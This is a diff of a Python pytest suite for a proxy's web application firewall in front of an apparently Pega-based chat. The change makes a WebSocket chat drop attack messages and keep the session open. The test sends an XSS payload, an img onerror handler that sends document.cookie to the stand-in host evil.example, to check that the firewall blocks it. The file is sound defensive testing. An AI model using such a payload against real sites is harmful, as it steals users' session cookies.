@@ -22,7 +22,6 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from websockets.exceptions import ConnectionClosed
 
 from conftest import PKI, ProxyProcess, ProxyStarter, free_port
 from profile_peers import (
@@ -126,6 +125,7 @@ def test_shipped_profile_has_one_app_name_and_the_four_patterns() -> None:
     for route in routes.values():
         assert option_list(route["filters"]) == ["client-networks", "trusted-origins", "waf"]
     assert PROFILE["filter:waf"]["use"] == "waf"
+    assert PROFILE["filter:waf"]["refused_message"] == "drop"  # a false positive does not end the chat
     assert "allow" not in PROFILE["listen:public"]  # the listener is open to all
     assert option_list(PROFILE["filter:client-networks"]["allow"]) == ["0.0.0.0/0", "::/0"]
     assert PROFILE["filter:trusted-origins"]["missing"] == "allow-get"
@@ -481,18 +481,18 @@ def test_waf_refuses_attacks_in_requests(env: Env) -> None:
     assert response.status == 200 and len(env.pega.requests) == before + 1
 
 
-def test_waf_closes_a_websocket_session_on_an_attack_message(env: Env) -> None:
-    """A chat message carrying a script closes the session with 1008 (policy
-    violation) on both sides; Pega never receives that message, only the
-    ordinary one before it."""
+def test_waf_drops_an_attack_message_and_the_chat_goes_on(env: Env) -> None:
+    """The profile's waf has refused_message = drop: a chat message carrying a
+    script is dropped (Pega never receives it) and the session stays open: the
+    customer's next message gets through on the same session."""
     target = f"{PUSH_PREFIX}/?sid=waf"
     with env.ws(target) as customer:
         customer.send("hello, is anyone there?")
         assert customer.recv(timeout=10) == "hello, is anyone there?"
         customer.send('<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">')
-        with pytest.raises(ConnectionClosed) as closed:
-            customer.recv(timeout=10)
-        assert closed.value.rcvd is not None and closed.value.rcvd.code == 1008
+        customer.send("sorry, wrong paste -- my order is #4711")
+        assert customer.recv(timeout=10) == "sorry, wrong paste -- my order is #4711"
     session = [s for s in env.pega.sessions if s.path == target][0]
     assert session.ended.wait(10)
-    assert session.received == ["hello, is anyone there?"]
+    assert session.received == ["hello, is anyone there?", "sorry, wrong paste -- my order is #4711"]
+    assert session.close_code == 1000
